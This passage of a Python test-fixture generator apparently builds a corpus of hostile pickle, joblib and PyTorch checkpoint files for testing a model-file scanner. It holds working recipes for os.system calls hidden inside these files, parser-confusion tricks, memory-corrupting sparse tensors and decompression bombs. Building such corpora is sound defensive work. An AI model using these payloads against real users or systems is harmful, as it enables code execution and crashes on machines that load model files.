            + pk.TUPLE2 + pk.BUILD + pk.NONE + pk.MARK + pk.uni0("b") + pk.uni0("system") + pk.DICT + pk.TUPLE2
            + pk.BUILD + pk.POP + pk.glob("numpy", "prod.a") + pk.put_text("0") + pk.glob("numpy", "prod.b")
            + pk.put_text("1") + pk.POP + pk.POP + pk.get_text("0") + pk.get_text("1") + pk.STACK_GLOBAL
            + pk.uni0("echo x") + pk.TUPLE1 + pk.REDUCE + pk.STOP)


# ==== 5. a failed load hides nothing =============================================================

for _stem, _tail, _what in [
    ("system_then_bad_opcode", b"\xff", "an unknown opcode"),
    ("system_then_truncated_string", b"X\x64\x00\x00\x00abc", "a string cut short"),
    ("system_then_eof", b"", "the end of the file without STOP"),
    ("system_then_bad_utf8", b"\x8c\x02\xff\xfe", "invalid UTF-8"),
    ("system_then_stack_underflow", b"t", "TUPLE without MARK"),
    ("system_then_proto6", b"\x80\x06", "an unsupported protocol"),
    ("system_then_huge_long", b"L" + b"9" * 5000 + b"L\n", "a 5000-digit LONG (int max str digits)"),
]:
    attack(_stem + ".pkl", "dangerous", "invalid-tail",
           "os.system runs, then %s fails the load" % _what, expect=["pickle"])(
        (lambda t: lambda: pk.proto(2) + pk.system(CMD) + t)(_tail))


@attack("ordereddict_build_then_system.pkl", "dangerous", "invalid-tail",
        "an OrderedDict given instance state by BUILD (Python accepts it) before os.system",
        expect=["pickle", "pickle-py", "joblib"])
def _():
    od = pk.call(pk.glob("collections", "OrderedDict")) + pk.dct((pk.uni("a"), pk.integer(1))) + pk.BUILD
    return pk.proto(2) + od + pk.POP + pk.system(CMD) + pk.STOP


@attack("joblib_pad_32_then_system.joblib", "dangerous", "invalid-tail",
        "a payload padding of 32 bytes that are not 0xff (joblib skips any padding) "
        "before os.system", expect=["joblib"])
def _():
    head = pk.proto(4) + newobj_wrapper(wrapper_state((8,)))
    return head + bytes([32]) + b"\x00" * 32 + JUNK8 + pk.system(CMD) + pk.POP + pk.NONE + pk.STOP


for _n in (48, 200):
    attack("joblib_pad_%d_then_system.joblib" % _n, "dangerous", "invalid-tail",
           "a payload padding of %d zero bytes (joblib skips whatever length byte and "
           "bytes it finds) before os.system" % _n, expect=["joblib"])(
        (lambda n: lambda: pk.proto(4) + newobj_wrapper(wrapper_state((8,))) + bytes([n])
         + b"\x00" * n + JUNK8 + pk.system(CMD) + pk.POP + pk.NONE + pk.STOP)(_n))


@attack("gzip_trailer_cut.joblib", "dangerous", "invalid-tail",
        "a gzip joblib file without its CRC and size trailer: joblib still runs the "
        "os.system inside", expect=["joblib"])
def _():
    return gzip.compress(pk.proto(4) + pk.system(CMD) + pk.STOP, 3, mtime=0)[:-8]


@attack("zlib_trailer_cut.joblib", "dangerous", "invalid-tail",
        "a zlib joblib file without its Adler-32", expect=["joblib"])
def _():
    return zlib.compress(pk.proto(4) + pk.system(CMD) + pk.STOP, 3)[:-4]


@attack("memo_sparse_then_system.pkl", "dangerous", "invalid-tail",
        "LONG_BINPUT 0x7fffffff (the C unpickler runs out of memory, pickle.py does not) "
        "before os.system", expect=["pickle-py", "joblib"])
def _():
    return pk.proto(2) + pk.NONE + b"r\xff\xff\xff\x7f" + pk.POP + pk.system(CMD) + pk.STOP


@attack("dtype_bool_code_then_open_memmap.pkl", "dangerous", "invalid-tail",
        "numpy.dtype('?', False, True) (the bool type code, which numpy accepts) before "
        "numpy's open_memmap creates a file", expect=["pickle", "pickle-py", "joblib"])
def _():
    dt = pk.call(pk.glob("numpy", "dtype"), pk.uni("?"), pk.NEWFALSE, pk.NEWTRUE)
    mm = pk.call(pk.glob("numpy.lib.format", "open_memmap"), pk.uni(MARKER + ".npy"), pk.uni("w+"),
                 pk.uni("u1"), pk.tup(pk.integer(16)))
    return pk.proto(2) + dt + pk.POP + mm + pk.STOP


@attack("dtype_name_float64_then_system.pkl", "dangerous", "invalid-tail",
        "numpy.dtype('float64', False, True) (a type name numpy accepts) before os.system",
        expect=["pickle", "pickle-py", "joblib"])
def _():
    dt = pk.call(pk.glob("numpy", "dtype"), pk.uni("float64"), pk.NEWFALSE, pk.NEWTRUE)
    return pk.proto(2) + dt + pk.POP + pk.system(CMD) + pk.STOP


@attack("dtype_of_scalar_type_then_system.pkl", "dangerous", "invalid-tail",
        "numpy.dtype(numpy.float64), a dtype from its scalar type, before os.system",
        expect=["pickle", "pickle-py", "joblib"])
def _():
    dt = pk.call(pk.glob("numpy", "dtype"), pk.glob("numpy", "float64"))
    return pk.proto(2) + dt + pk.POP + pk.system(CMD) + pk.STOP


@attack("newobj_list_args_then_system.pkl", "dangerous", "invalid-tail",
        "NEWOBJ whose arguments are a list (pickle.py and joblib accept any sequence, the C "
        "unpickler wants a tuple) before os.system", expect=["pickle-py", "joblib"])
def _():
    obj = pk.glob("collections", "OrderedDict") + pk.EMPTY_LIST + pk.NEWOBJ
    return pk.proto(2) + obj + pk.POP + pk.system(CMD) + pk.STOP


def wrapper_state_dtype(shape, dtype):
    """A NumpyArrayWrapper state whose dtype is the given opcodes (any spelling)."""
    return pk.dct((pk.uni("subclass"), pk.glob("numpy", "ndarray")),
                  (pk.uni("shape"), pk.py_value(tuple(shape))),
                  (pk.uni("order"), pk.uni("C")),
                  (pk.uni("dtype"), dtype),
                  (pk.uni("allow_mmap"), pk.NEWFALSE))


# An object dtype reached through any spelling numpy takes makes joblib read the payload
# as a nested pickle (SAFETY.md S-32): the alias must be judged as object.
for _name, _dtype, _note in [
        ("name", pk.call(pk.glob("numpy", "dtype"), pk.uni("object")), "numpy.dtype('object')"),
        ("code_o8", pk.call(pk.glob("numpy", "dtype"), pk.uni("|O8"), pk.NEWFALSE, pk.NEWTRUE),
         "numpy.dtype('|O8')"),
        ("comma", pk.call(pk.glob("numpy", "dtype"), pk.uni("O, i8")),
         "numpy.dtype('O, i8') (a comma list with an object field)"),
        ("repeat", pk.call(pk.glob("numpy", "dtype"), pk.uni("2O")),
         "numpy.dtype('2O') (a subarray of objects)"),
        ("class", pk.call(pk.glob("numpy", "dtype"), pk.glob("collections", "OrderedDict")),
         "numpy.dtype(collections.OrderedDict) (any class is numpy's object dtype)"),
        ("scalar_type", pk.call(pk.glob("numpy", "dtype"), pk.glob("numpy", "object_")),
         "numpy.dtype(numpy.object_)"),
        ("dict", pk.call(pk.glob("numpy", "dtype"), pk.py_value({"names": ["a"], "formats": ["O"]})),
         "numpy.dtype({'names': ['a'], 'formats': ['O']}) (a dict of fields, one of objects)"),
        ("field_dict", pk.call(pk.glob("numpy", "dtype"), pk.py_value({"b": ("<i8", 8), "a": ("O", 0)})),
         "numpy.dtype({'b': ('<i8', 8), 'a': ('O', 0)}) (the field dict form: sorted by offset, "
         "an object field first)"),
        ("list_aligned", pk.call(pk.glob("numpy", "dtype"), pk.py_value([("", "u1"), ("b", "O")]), pk.NEWTRUE),
         "numpy.dtype([('', 'u1'), ('b', 'O')], True) (an object field at its alignment)"),
]:
    attack("dtype_alias_%s_object_payload.joblib" % _name, "dangerous", "readings",
           "a wrapper whose dtype is %s: joblib reads its payload as a nested pickle that "
           "calls os.system" % _note, expect=["joblib", "pickle", "pickle-py"])(
        (lambda d: lambda: pk.proto(4) + newobj_wrapper(wrapper_state_dtype((1,), d))
         + inner_pickle_system() + pk.STOP)(_dtype))


@attack("dtype_dict_spec_then_system.pkl", "dangerous", "invalid-tail",
        "numpy.dtype({'names': ['a'], 'formats': ['<f8']}) (a dict of fields, which numpy "
        "reads as a structured dtype) before os.system", expect=["pickle", "pickle-py", "joblib"])
def _():
    spec = pk.dct((pk.uni("names"), pk.EMPTY_LIST + pk.MARK + pk.uni("a") + pk.APPENDS),
                  (pk.uni("formats"), pk.EMPTY_LIST + pk.MARK + pk.uni("<f8") + pk.APPENDS))
    return pk.proto(2) + pk.call(pk.glob("numpy", "dtype"), spec) + pk.POP + pk.system(CMD) + pk.STOP


@attack("dtype_strtol_size_then_system.pkl", "dangerous", "invalid-tail",
        "numpy.dtype('i +04') (numpy reads the size with strtol: spaces and a sign) before "
        "os.system", expect=["pickle", "pickle-py", "joblib"])
def _():
    return pk.proto(2) + pk.call(pk.glob("numpy", "dtype"), pk.uni("i +04")) + pk.POP + pk.system(CMD) + pk.STOP


@attack("dtype_datetime_zero_count_then_system.pkl", "dangerous", "invalid-tail",
        "numpy.dtype('M8[0s]') (a datetime count of 0, which numpy.dtype takes) before "
        "os.system", expect=["pickle", "pickle-py", "joblib"])
def _():
    return pk.proto(2) + pk.call(pk.glob("numpy", "dtype"), pk.uni("M8[0s]")) + pk.POP + pk.system(CMD) + pk.STOP


@attack("newobj_ex_dict_args_then_system.pkl", "dangerous", "invalid-tail",
        "NEWOBJ_EX whose arguments are a dict (pickle.py passes its keys as *args) before "
        "os.system", expect=["pickle-py", "joblib"])
def _():
    obj = pk.glob("collections", "OrderedDict") + pk.dct((pk.uni("a"), pk.integer(1))) + pk.EMPTY_DICT + pk.NEWOBJ_EX
    return pk.proto(4) + obj + pk.POP + pk.system(CMD) + pk.STOP


@attack("reduce_bytes_args_then_system.pkl", "dangerous", "invalid-tail",
        "REDUCE whose arguments are bytes (pickle.py passes their values as *args) before "
        "os.system", expect=["pickle-py", "joblib"])
def _():
    call = pk.glob("builtins", "bytearray") + pk.binbytes(b"\x05") + pk.REDUCE
    return pk.proto(3) + call + pk.POP + pk.system(CMD) + pk.STOP


def np_array_body(a):
    """A numpy array as numpy pickles it (protocol 2, no memo), without PROTO and STOP."""
    import pickle
    import pickletools
    b = pickletools.optimize(pickle.dumps(a, protocol=2))
    return b[2:-1]


@attack("memmap_star_array_then_system.pkl", "dangerous", "invalid-tail",
        "numpy.memmap(*array([b'/tmp/x'])): pickle.py passes an array's items as *args, "
        "so memmap opens the file the array names; then os.system", expect=["pickle-py", "joblib"])
def _():
    call = pk.glob("numpy", "memmap") + np_array_body(np.array([MARKER.encode()])) + pk.REDUCE
    return pk.proto(2) + call + pk.POP + pk.system(CMD) + pk.STOP


@attack("ufunc_reconstruct_star_array.pkl", "dangerous", "invalid-tail",
        "numpy.core._ufunc_reconstruct(*array(['os', 'system'])) imports os.system from the "
        "strs of an array passed as *args, and the result is called", expect=["pickle-py", "joblib"])
def _():
    fn = pk.glob("numpy.core", "_ufunc_reconstruct") + np_array_body(np.array(["os", "system"])) + pk.REDUCE
    return pk.proto(2) + fn + pk.tup(pk.uni(CMD)) + pk.REDUCE + pk.STOP


@attack("newobj_star_object_array.pkl", "dangerous", "invalid-tail",
        "copyreg.__newobj__(*array([numpy.memmap], dtype=object)): the class built is an "
        "object array's element", expect=["pickle-py", "joblib"])
def _():
    body = np_array_body(np.array([0], dtype=object)).replace(b"]K\x00a", b"]cnumpy\nmemmap\na")
    call = pk.glob("copyreg", "__newobj__") + body + pk.REDUCE
    return pk.proto(2) + call + pk.POP + pk.system(CMD) + pk.STOP
@attack("scalar_long_data_then_system.pkl", "dangerous", "invalid-tail",
        "numpy's scalar() of 16 bytes for a float64 (numpy takes the first 8), then "
        "os.system", expect=["joblib", "pickle", "pickle-py"])
def _():
    return (pk.proto(2) + pk.call(pk.glob("numpy.core.multiarray", "scalar"), np_dtype("<f8"),
                                  pk.binbytes(b"\x00" * 16)) + pk.POP + pk.system(CMD) + pk.STOP)


@attack("scalar_no_data_then_system.pkl", "dangerous", "invalid-tail",
        "numpy's scalar() of a float64 without data (numpy makes a zero), then os.system",
        expect=["joblib", "pickle", "pickle-py"])
def _():
    return (pk.proto(2) + pk.call(pk.glob("numpy.core.multiarray", "scalar"), np_dtype("<f8"))
            + pk.POP + pk.system(CMD) + pk.STOP)


@attack("scalar_short_data_then_system.pkl", "dangerous", "invalid-tail",
        "numpy's scalar() of 4 bytes for a float64 (an error to numpy too), then os.system: "
        "names after the reader's error are judged")
def _():
    return (pk.proto(2) + pk.call(pk.glob("numpy.core.multiarray", "scalar"), np_dtype("<f8"),
                                  pk.binbytes(b"\x00" * 4)) + pk.POP + pk.system(CMD) + pk.STOP)


@attack("inst_without_mark_resolves.pkl", "dangerous", "invalid-tail",
        "INST subprocess.Popen with no MARK: pickle.py imports and resolves the class before it "
        "fails (the C unpickler fails first)")
def _():
    return pk.proto(2) + pk.inst("subprocess", "Popen") + pk.STOP


# ==== 5b. PyTorch checkpoints: what torch.load's reading runs ====================================

def torch_zip(data_pkl, records=None):
    """A checkpoint laid out as torch.save writes one: archive/data.pkl, archive/version
    and the storages under archive/data/."""
    import io
    import zipfile
    buf = io.BytesIO()
    def put(z, name, data):
        z.writestr(zipfile.ZipInfo(name, date_time=(2020, 1, 1, 0, 0, 0)), data)
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        put(z, "archive/data.pkl", data_pkl)
        for name, data in sorted((records or {}).items()):
            put(z, "archive/" + name, data)
        put(z, "archive/version", b"3\n")
    return buf.getvalue()


def torch_tensor_f4(key="0", n=2):
    """_rebuild_tensor_v2 of a float storage from the archive, as torch.save writes it."""
    pid = pk.tup(pk.uni("storage"), pk.glob("torch", "FloatStorage"), pk.uni(key), pk.uni("cpu"),
                 pk.integer(n)) + b"Q"
    return pk.call(pk.glob("torch._utils", "_rebuild_tensor_v2"), pid, pk.integer(0),
                   pk.tup(pk.integer(n)), pk.tup(pk.integer(1)), pk.NEWFALSE,
                   pk.call(pk.glob("collections", "OrderedDict")))


def torch_legacy(main_pickle):
    """The legacy torch.save format: magic number, protocol, system info, the object,
    the storage keys (here none)."""
    import pickle
    head = b"".join(pickle.dumps(v, protocol=2) for v in (
        0x1950a86a20f9469cfc6c, 1001,
        {"protocol_version": 1001, "little_endian": True,
         "type_sizes": {"short": 2, "int": 4, "long": 4}}))
    return head + main_pickle + pickle.dumps([], protocol=2)


@attack("torch_system_beside_tensor.pt", "dangerous", "torch",
        "a checkpoint whose state dict holds a real tensor and an os.system call",
        expect=["torch"])
def _():
    body = pk.dct((pk.uni("w"), torch_tensor_f4()), (pk.uni("x"), pk.system(CMD)))
    return torch_zip(pk.proto(2) + body + pk.STOP, {"data/0": b"\x00" * 8})


def _patch_local_header(zb, field_off, value):
    """The zip with bytes of the first member's local header replaced (torch's reader, miniz,
    takes the method and sizes from the central directory and ignores the local name)."""
    zb = bytearray(zb)
    zb[field_off:field_off + len(value)] = value
    return bytes(zb)


@attack("torch_local_method_differs.pt", "dangerous", "torch",
        "a checkpoint whose data.pkl (os.system) is stored, but whose local header says "
        "deflated: torch reads the central directory's method and runs it", expect=["torch"])
def _():
    return _patch_local_header(torch_zip(pk.proto(2) + pk.system(CMD) + pk.STOP), 8, struct.pack("<H", 8))


@attack("torch_local_name_differs.pt", "dangerous", "torch",
        "a checkpoint whose local header names data.pkl otherwise than the central directory: "
        "torch's reader ignores the local name and runs its os.system", expect=["torch"])
def _():
    return _patch_local_header(torch_zip(pk.proto(2) + pk.system(CMD) + pk.STOP), 30, b"b")


@attack("torch_rebuild_from_type_dunder_state.pt", "dangerous", "torch",
        "a checkpoint whose tensor is torch._tensor._rebuild_from_type_v2 of a real tensor "
        "with the state {'__class__': torch.Tensor}: torch setattr()s it on the tensor, as "
        "a BUILD state with a dunder key", expect=["torch"])
def _():
    pid = pk.tup(pk.uni("storage"), pk.glob("torch", "FloatStorage"), pk.uni("0"), pk.uni("cpu"),
                 pk.integer(2)) + b"Q"
    args = pk.tup(pid, pk.integer(0), pk.tup(pk.integer(2)), pk.tup(pk.integer(1)), pk.NEWFALSE,
                  pk.call(pk.glob("collections", "OrderedDict")))
    body = pk.call(pk.glob("torch._tensor", "_rebuild_from_type_v2"), pk.glob("torch._utils", "_rebuild_tensor_v2"),
                   pk.glob("torch.nn.parameter", "Parameter"), args,
                   pk.dct((pk.uni("__class__"), pk.glob("torch", "Tensor"))))
    return torch_zip(pk.proto(2) + body + pk.STOP, {"data/0": b"\x00" * 8})


@attack("torch_fx_graph_module_source.pt", "dangerous", "torch",
        "torch.fx's reduce_graph_module execs the python source a pickled GraphModule "
        "carries (torch.save of a traced model writes exactly this call)", expect=["torch"])
def _():
    src = "\nimport os\nos.system(%r)\ndef forward(self):\n    return None\n" % CMD
    call = pk.call(pk.glob("torch.fx.graph_module", "reduce_graph_module"),
                   pk.dct((pk.uni("_code"), pk.uni(src))), pk.uni(""))
    return torch_zip(pk.proto(2) + call + pk.STOP)


@attack("torch_jit_load.pt", "dangerous", "torch",
        "torch.jit.load of another file: a TorchScript archive whose code runs",
        expect=["torch"])
def _():
    call = pk.call(pk.glob("torch.jit", "load"), pk.uni("/tmp/jlp-planted.pt"))
    return torch_zip(pk.proto(2) + call + pk.STOP)


@attack("torch_save_writes.pt", "dangerous", "torch",
        "torch.save writes a file named by the checkpoint", expect=["torch"])
def _():
    call = pk.call(pk.glob("torch", "save"), pk.EMPTY_DICT, pk.uni(MARKER))
    return torch_zip(pk.proto(2) + call + pk.STOP)


@attack("torch_from_file_shared.pt", "dangerous", "torch",
        "torch.from_file(path, shared=True) maps a file the model then writes through",
        expect=["torch"])
def _():
    call = pk.call(pk.glob("torch", "from_file"), pk.uni(MARKER), pk.NEWTRUE, pk.integer(16))
    return torch_zip(pk.proto(2) + call + pk.STOP)


@attack("torch_load_from_bytes_nested.pt", "dangerous", "torch",
        "torch.storage._load_from_bytes runs torch.load on bytes the checkpoint carries "
        "(another checkpoint that calls os.system)", expect=["torch"])
def _():
    inner = torch_zip(pk.proto(2) + pk.system(CMD) + pk.STOP)
    call = pk.call(pk.glob("torch.storage", "_load_from_bytes"), pk.binbytes(inner))
    return torch_zip(pk.proto(2) + call + pk.STOP)


@attack("torch_legacy_system.pt", "dangerous", "torch",
        "a legacy-format checkpoint (a sequence of pickles) whose fourth pickle, the object, "
        "calls os.system: pickle.load reads only the magic number", expect=["torch"])
def _():
    return torch_legacy(pk.proto(2) + pk.system(CMD) + pk.STOP)


@attack("torch_legacy_sysinfo_system.pt", "dangerous", "torch",
        "a legacy-format checkpoint whose third pickle (the system information torch.load "
        "reads and drops) calls os.system", expect=["torch"])
def _():
    import pickle
    head = b"".join(pickle.dumps(v, protocol=2) for v in (0x1950a86a20f9469cfc6c, 1001))
    return head + pk.proto(2) + pk.system(CMD) + pk.STOP


def torch_legacy_with_storage(main_pickle, data=b"\x00" * 8):
    """The legacy format with one storage, key '0', of `data` (float32 elements) after
    the keys, as torch.save writes it."""
    import pickle
    head = torch_legacy(b"")[:-len(pickle.dumps([], protocol=2))]
    return (head + main_pickle + pickle.dumps(["0"], protocol=2)
            + struct.pack("<q", len(data) // 4) + data)


def legacy_storage_record():
    """('storage', FloatStorage, '0', 'cpu', 2, None) as a BINPERSID."""
    return (pk.tup(pk.uni("storage"), pk.glob("torch", "FloatStorage"), pk.uni("0"), pk.uni("cpu"),
                   pk.integer(2), pk.NONE) + pk.BINPERSID)


@attack("torch_load_from_bytes_legacy_system.pkl", "dangerous", "torch",
        "a pickled tensor's storage as torch pickles it, torch.storage._load_from_bytes(<a "
        "legacy torch file>), whose object beside a real storage record calls os.system: "
        "pickle.load runs torch.load on the bytes", expect=["pickle", "pickle-py", "joblib"])
def _():
    inner = torch_legacy_with_storage(pk.proto(2) + pk.tup(legacy_storage_record(), pk.system(CMD)) + pk.STOP)
    return pk.proto(2) + pk.call(pk.glob("torch.storage", "_load_from_bytes"), pk.binbytes(inner)) + pk.STOP


@attack("torch_load_from_bytes_after_safe_one.pkl", "dangerous", "torch",
        "two storages loaded with torch.storage._load_from_bytes: the first a real one, the "
        "second's legacy file calls os.system in its system-information pickle",
        expect=["pickle", "pickle-py", "joblib"])
def _():
    import pickle
    import torch
    real = pickle.dumps(torch.tensor([1.0, 2.0]).storage(), protocol=2)
    head = b"".join(pickle.dumps(v, protocol=2) for v in (0x1950a86a20f9469cfc6c, 1001))
    evil = head + pk.proto(2) + pk.system(CMD) + pk.STOP
    second = pk.call(pk.glob("torch.storage", "_load_from_bytes"), pk.binbytes(evil))
    return real[:-1] + pk.POP + second + pk.STOP


@attack("torch_load_from_bytes_deep.pkl", "dangerous", "torch",
        "torch.storage._load_from_bytes of a legacy file whose object loads another, three "
        "levels down, the last calling os.system", expect=["pickle", "pickle-py", "joblib"])
def _():
    inner = torch_legacy(pk.proto(2) + pk.system(CMD) + pk.STOP)
    for _level in range(2):
        inner = torch_legacy(pk.proto(2) + pk.call(pk.glob("torch.storage", "_load_from_bytes"),
                                                   pk.binbytes(inner)) + pk.STOP)
    return pk.proto(2) + pk.call(pk.glob("torch.storage", "_load_from_bytes"), pk.binbytes(inner)) + pk.STOP


@attack("torch_legacy_module_record_system.pt", "dangerous", "torch",
        "a legacy-format checkpoint whose ('module', class, file, source) record names "
        "os.system: torch.load's persistent_load returns it and the pickle calls it",
        expect=["torch"])
def _():
    rec = pk.tup(pk.uni("module"), pk.glob("os", "system"), pk.NONE, pk.NONE) + pk.BINPERSID
    return torch_legacy(pk.proto(2) + rec + pk.tup(pk.uni(CMD)) + pk.REDUCE + pk.STOP)


@attack("torch_module_hook_system.pt", "dangerous", "torch",
        "a whole nn.Linear whose forward hook is os.system (runs when the model is called; "
        "the name alone is the danger)")
def _():
    lin = pk.call(pk.glob("torch.nn.modules.linear", "Linear"), pk.integer(1), pk.integer(1))
    hooks = (pk.call(pk.glob("collections", "OrderedDict")) + pk.MARK + pk.integer(0)
             + pk.glob("os", "system") + pk.SETITEMS)
    state = pk.dct((pk.uni("_forward_hooks"), hooks))
    return torch_zip(pk.proto(2) + lin + state + pk.BUILD + pk.STOP)


@attack("torch_module_array_interface.pt", "dangerous", "torch",
        "a whole nn.Linear whose state sets __array_interface__ (Module.__setstate__ "
        "updates __dict__; numpy then reads memory at the address given)", expect=["torch"])
def _():
    lin = pk.call(pk.glob("torch.nn.modules.linear", "Linear"), pk.integer(1), pk.integer(1))
    iface = pk.dct((pk.uni("data"), pk.tup(pk.integer(16), pk.NEWFALSE)),
                   (pk.uni("shape"), pk.tup(pk.integer(8))), (pk.uni("typestr"), pk.uni("|u1")),
                   (pk.uni("version"), pk.integer(3)))
    state = pk.dct((pk.uni("__array_interface__"), iface))
    return torch_zip(pk.proto(2) + lin + state + pk.BUILD + pk.STOP)


@attack("torchscript_archive.pt", "suspicious", "torch",
        "a TorchScript archive (constants.pkl beside code/): torch.load hands it to "
        "torch.jit.load, which compiles and runs the archive's code", expect=["torch"])
def _():
    import io
    import torch
    torch.manual_seed(0)
    buf = io.BytesIO()
    torch.jit.save(torch.jit.script(torch.nn.Linear(2, 2)), buf)
    return buf.getvalue()


# ---- 5c. torch sparse tensors pickled by pickle (spec/SAFETY.md SA-7) ----------------------------
# torch._utils._rebuild_sparse_tensor builds the tensor without checking its indices and
# pickle.load and joblib.load never validate them: an index past the size makes torch read
# and write memory at it when the tensor is used (to_dense of the first one aborts Python
# with a corrupted heap, of the huge ones it crashes). Made by torch's own unchecked
# constructors and pickled by torch's own reduce (tests/safety/sparse/gen_sparse.py).

def _sparse(make, dump=None):
    sys.path.insert(0, os.path.join(HERE, "sparse"))
    import warnings
    import torch
    import gen_sparse
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return gen_sparse.pickled(make(torch), dump)


@attack("torch_qtensor_offset_huge.pkl", "dangerous", "torch",
        "a pickled quantized tensor over a storage of 6 elements at the offset 10**9: set_ does "
        "not check a quantized tensor's view, dequantize reads there (SIGSEGV)",
        expect=["joblib", "pickle", "pickle-py"])
def _():
    return _sparse(lambda torch: __import__("gen_sparse").QRebuild(10 ** 9, (2, 3), (3, 1)))


@attack("torch_qtensor_view_huge.pt", "dangerous", "torch",
        "torch.save of a quantized tensor of size (2, 3000000) over a storage of 6 elements: "
        "torch.load builds it unchecked, dequantize reads past the storage (SIGSEGV)")
def _():
    sys.path.insert(0, os.path.join(HERE, "sparse"))
    import gen_sparse
    return gen_sparse.saved(gen_sparse.QRebuild(0, (2, 3000000), (3000000, 1)))


@attack("torch_sparse_coo_index_eq_size.pkl", "dangerous", "torch",
        "a pickled sparse COO tensor of size (3, 3) with the index 3: pickle.load builds it "
        "unchecked, to_dense writes past the tensor (heap corruption)",
        expect=["joblib", "pickle", "pickle-py"])
def _():
    return _sparse(lambda torch: torch._sparse_coo_tensor_unsafe(
        torch.tensor([[0, 1, 3], [0, 1, 2]]), torch.ones(3), (3, 3)))


@attack("torch_sparse_coo_index_huge.joblib", "dangerous", "torch",
        "joblib.dump (compress 3) of a sparse COO tensor with the index 10**11: joblib.load "
        "builds it unchecked, to_dense writes at that offset (a crash, or a write anywhere)",
        expect=["joblib"])
def _():
    import joblib
    return _sparse(lambda torch: torch._sparse_coo_tensor_unsafe(
        torch.tensor([[0, 1, 2], [0, 1, 10 ** 11]]), torch.ones(3), (3, 3)),
        lambda obj, f: joblib.dump(obj, f, compress=3))


@attack("torch_sparse_coo_index_negative.pkl", "dangerous", "torch",
        "a pickled sparse COO tensor with the index -1: to_dense writes before the tensor",
        expect=["joblib", "pickle", "pickle-py"])
def _():
    return _sparse(lambda torch: torch._sparse_coo_tensor_unsafe(
        torch.tensor([[0, 1, 2], [0, -1, 2]]), torch.ones(3), (3, 3)))


@attack("torch_sparse_csr_col_huge.pkl", "dangerous", "torch",
        "a pickled sparse CSR tensor whose column index is 10**11: to_dense writes at it",
        expect=["joblib", "pickle", "pickle-py"])
def _():
    return _sparse(lambda torch: torch._sparse_csr_tensor_unsafe(
        torch.tensor([0, 1, 2, 3]), torch.tensor([0, 10 ** 11, 2]), torch.ones(3), (3, 3)))


@attack("torch_sparse_csr_crow_huge.pkl", "dangerous", "torch",
        "a pickled sparse CSR tensor whose last row pointer is 10**8 with 3 values: to_dense "
        "reads the column indices and values far past their ends",
        expect=["joblib", "pickle", "pickle-py"])
def _():
    return _sparse(lambda torch: torch._sparse_csr_tensor_unsafe(
        torch.tensor([0, 1, 2, 10 ** 8]), torch.tensor([0, 1, 2]), torch.ones(3), (3, 3)))


@attack("torch_sparse_coo_index_eq_size.pt", "dangerous", "torch",
        "a checkpoint (torch.save) of a sparse COO tensor with the index 3 in a (3, 3) tensor: "
        "torch 1.13's torch.load validates it and fails, torch 2.8 and later load it unchecked "
        "unless asked to validate (or, since mid-2026, with weights_only=True)")
def _():
    import io
    import torch
    buf = io.BytesIO()
    torch.save(torch._sparse_coo_tensor_unsafe(torch.tensor([[0, 1, 3], [0, 1, 2]]), torch.ones(3), (3, 3)), buf)
    return buf.getvalue()


@attack("torch_sparse_coo_indices_computed.pkl", "suspicious", "torch",
        "_rebuild_sparse_tensor given indices the pickle computes (a list, not a tensor over a "
        "storage): the scan cannot read them, and nothing checks them",
        expect=["joblib", "pickle", "pickle-py"])
def _():
    layout = pk.call(pk.glob("torch.serialization", "_get_layout"), pk.uni("torch.sparse_coo"))
    size = pk.call(pk.glob("torch", "Size"), pk.py_value([3, 3]))
    data = pk.tup(pk.py_value([[0, 1, 3], [0, 1, 2]]), pk.py_value([1, 1, 1]), size)
    return pk.proto(2) + pk.call(pk.glob("torch._utils", "_rebuild_sparse_tensor"), layout, data) + pk.STOP


# ==== 6. budgets ================================================================================

def _bomb_stream(n):
    return (pk.proto(4) + b"\x8e" + struct.pack("<Q", n) + b"\x00" * n + pk.POP
            + pk.system(CMD) + pk.STOP)


@attack("bz2_bomb.joblib", "suspicious", "budget",
        "a bz2 joblib file of a few KB that decodes to 256 MiB before an os.system")
def _():
    return bz2.compress(_bomb_stream(256 << 20), 9)


@attack("zlib_bomb.joblib", "suspicious", "budget",
        "a zlib joblib file that decodes to 256 MiB before an os.system")
def _():
    return zlib.compress(_bomb_stream(256 << 20), 9)


@attack("xz_bomb.joblib", "suspicious", "budget",
        "an xz joblib file of a few KB that decodes to 256 MiB before an os.system")
def _():
    return lzma.compress(_bomb_stream(256 << 20), preset=1)


def _pickles_bomb(n):
    """n bytes of four-byte pickles, then a pickle that calls os.system"""
    return (pk.proto(4) + pk.NONE + pk.STOP) * (n // 4) + pk.proto(4) + pk.system(CMD) + pk.STOP


@attack("pickles_bomb.joblib", "suspicious", "budget",
        "a zlib file decoding to 128 MiB of four-byte pickles (16 million loads) before a "
        "pickle that calls os.system: the opcode budget holds over all of them")
def _():
    return zlib.compress(_pickles_bomb(128 << 20), 9)


@attack("lz4_bomb.joblib", "suspicious", "budget",
        "an lz4 joblib file that decodes to 256 MiB before an os.system")
def _():
    import lz4.frame
    return lz4.frame.compress(_bomb_stream(256 << 20), compression_level=0)


def _zip_of(name, data, method, extra=()):
    """A zip holding `data` as member `name` compressed by `method`, then `extra`."""
    import io
    import zipfile
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method, allowZip64=True) as z:
        z.writestr(zipfile.ZipInfo(name, date_time=(2020, 1, 1, 0, 0, 0)), data, compress_type=method)
        for ename, edata in extra:
            z.writestr(zipfile.ZipInfo(ename, date_time=(2020, 1, 1, 0, 0, 0)), edata)
    return buf.getvalue()


@attack("zip_member_bomb.zip", "suspicious", "budget",
        "a 261 KB zip whose deflated member decodes to 256 MiB before an os.system: the "
        "member is read within the budget the whole file gives it, as a plain .gz would be")
def _():
    import zipfile
    return _zip_of("bomb.pkl", _bomb_stream(256 << 20), zipfile.ZIP_DEFLATED)


@attack("pt_member_bomb.pt", "suspicious", "budget",
        "a 261 KB PyTorch checkpoint whose deflated data.pkl decodes to 256 MiB before an "
        "os.system")
def _():
    import zipfile
    return _zip_of("archive/data.pkl", _bomb_stream(256 << 20), zipfile.ZIP_DEFLATED,
                   [("archive/version", b"3\n")])


@attack("zip_bzip2_member_bomb.zip", "dangerous", "budget",
        "a 447-byte zip whose bzip2 member calls os.system, then decodes to 256 MiB: its "
        "declared ratio passed the archive reader's own bound, which refused the member "
        "whole (it was never scanned, and the zip safe)")
def _():
    import zipfile
    return _zip_of("bomb.pkl", pk.proto(4) + pk.system(CMD) + pk.POP + _bomb_stream(256 << 20)[2:],
                   zipfile.ZIP_BZIP2)


